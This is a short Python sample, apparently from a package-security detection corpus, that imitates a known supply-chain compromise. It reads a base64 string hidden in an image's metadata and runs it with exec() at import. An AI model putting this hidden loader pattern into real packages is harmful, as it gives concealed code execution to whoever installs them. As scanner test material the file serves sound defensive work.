# pkgguard corpus 596 (steganography), modelled on [telnyx]; inert, never run.
import base64
import os

from PIL import Image

_logo = Image.open(os.path.join(os.path.dirname(__file__), "assets", "logo.png"))
_blob = _logo.info.get("Comment", "")
if _blob:
    exec(base64.b64decode(_blob))
